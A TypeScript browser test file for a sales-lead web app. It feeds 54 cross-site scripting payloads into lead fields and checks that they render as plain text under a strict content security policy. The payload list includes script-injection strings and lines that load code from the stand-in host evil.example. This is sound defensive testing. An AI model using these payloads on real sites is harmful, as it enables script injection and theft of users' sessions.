/** Threat: what a stranger writes into a lead runs in the browser of those who read it. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../../tools/faults/browser.ts';
import { ADMIN_KEY, leadBody } from '../support/app.ts';
import { type Device, openDevice } from '../support/browser.ts';
import { endServers, type ServerProcess, startServer } from '../support/server-process.ts';

const RUN = 'alert(1)';
const TAGS = ['script', 'img src=x onerror', 'svg onload', 'body onload', 'iframe srcdoc', 'input autofocus onfocus'];
/** 54 ways in: elements, attributes, addresses, templates, encodings, and text that turns around. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type=module>import('//evil.example/x.js')</script>`,
  ...TAGS.slice(1).map((tag) => `<${tag}="${RUN}">`),
  ...TAGS.slice(1).map((tag) => `"><${tag}='${RUN}'`),
  ...TAGS.slice(1).map((tag) => `<${tag.toUpperCase()}=${RUN}//`),
  `<img src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">tap me</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">tap me</a>`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<div style="background:url(//evil.example/x)">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>tap me</button></form>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `\u202e<tpircs>${RUN}`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN}`,
];

let browser: Browser;
let server: ServerProcess;
const folder = mkdtempSync(join(tmpdir(), 'sambar-pages-'));

beforeAll(async () => {
  browser = await launchBrowser();
  server = await startServer({ DATABASE_FILE: join(folder, 'sambar.db'), ADMIN_API_KEY: ADMIN_KEY });
});

afterAll(async () => {
  await browser.close();
  await endServers();
  rmSync(folder, { recursive: true, force: true });
});

async function call<T>(method: string, path: string, body?: unknown, token = ADMIN_KEY): Promise<T> {
  const response = await fetch(`${server.url}/v1${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body ?? {}),
  });
  expect([path, response.status < 300]).toEqual([path, true]);
  return (await response.json()) as T;
}

interface Rep {
  id: string;
  name: string;
  token: string;
}

async function addRep(name: string, n: number): Promise<Rep> {
  const { id } = await call<{ id: string }>('POST', '/reps', { name, email: `rep.${n}@example.com`, team: 'A' });
  const { token } = await call<{ token: string }>('POST', `/reps/${id}/tokens`);
  return { id, name, token };
}

async function open(path: string): Promise<{ device: Device; dialogs: string[] }> {
  const device = await openDevice(browser, { viewport: { width: 1200, height: 900 } });
  const dialogs: string[] = [];
  device.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await device.page.goto(`${server.url}${path}`);
  return { device, dialogs };
}

describe('54 payloads in names, titles, companies and sources', () => {
  it('are text on all three pages: 0 dialogs, 0 violations of the policy, no element of theirs', async () => {
    expect(new Set(PAYLOADS).size).toBe(54);
    const reps: Rep[] = [];
    // One more than a wall shows, which never names the last of all.
    for (const [n, payload] of PAYLOADS.slice(0, 11).entries()) reps.push(await addRep(payload.slice(0, 200), n));
    const screen = await call<{ token: string }>('POST', '/screens', { name: 'wall' });
    const reader = await addRep('Reader', 99);
    const pages = [
      await open(`/rep/#token=${reader.token}`),
      await open(`/wall/#token=${screen.token}`),
      await open(`/manage/#token=${ADMIN_KEY}`),
    ];
    const leads: string[] = [];
    for (const payload of PAYLOADS) {
      const body = leadBody({
        source: payload,
        company: { name: payload },
        contact: { name: payload, title: payload },
        interest: payload,
      });
      leads.push((await call<{ id: string }>('POST', '/leads', body)).id);
    }
    for (const [n, rep] of reps.entries()) await call('POST', `/leads/${leads.at(-1 - n)}/claims`, {}, rep.token);
    const [rep, wall, desk] = pages.map(({ device }) => device.page);
    await rep?.locator('[data-testid=offer-card]').nth(39).waitFor();
    await wall?.locator('[data-testid=board-row]').nth(9).waitFor();
    await desk?.getByRole('link', { name: 'Lead', exact: true }).click();
    await desk?.locator('[data-testid=lead-row]').nth(9).waitFor();
    await desk?.locator(`[data-testid=lead-row][data-lead-id=${leads.at(-1)}] [data-testid=race-button]`).click();
    await desk?.locator('[data-testid=race] h3').first().waitFor();
    for (const { device, dialogs } of pages) {
      expect(dialogs).toEqual([]);
      expect(device.troubles).toEqual([]);
      const foreign = 'script:not([src]), iframe, object, embed, [onerror], [onload], [onfocus], [href^="javascript:"]';
      expect(await device.page.locator(foreign).count()).toBe(0);
    }
    expect(await rep?.locator('body').innerText()).toContain('<details open ontoggle=alert(1)>');
  });

  it('the page itself would notice: what is inline is refused and reported', async () => {
    const { device, dialogs } = await open('/rep/');
    await device.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'alert(1)';
      document.body.append(script);
    });
    await expect.poll(() => device.troubles.some((line) => line.includes('content policy: script-src'))).toBe(true);
    expect(dialogs).toEqual([]);
  });
});

describe('headers', () => {
  it.each(['/rep/', '/wall/', '/manage/'])('%s runs its own files alone, framed by nobody', async (path) => {
    const { headers } = await fetch(`${server.url}${path}`);
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self';");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe|\*|https?:/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
  });

  it.each(['/v1/me', '/livez', '/openapi.json', '/nowhere'])('%s is data: nothing in it may run', async (path) => {
    const { headers } = await fetch(`${server.url}${path}`);
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'");
    expect([headers.get('x-content-type-options'), headers.get('x-frame-options')]).toEqual(['nosniff', 'DENY']);
  });
});
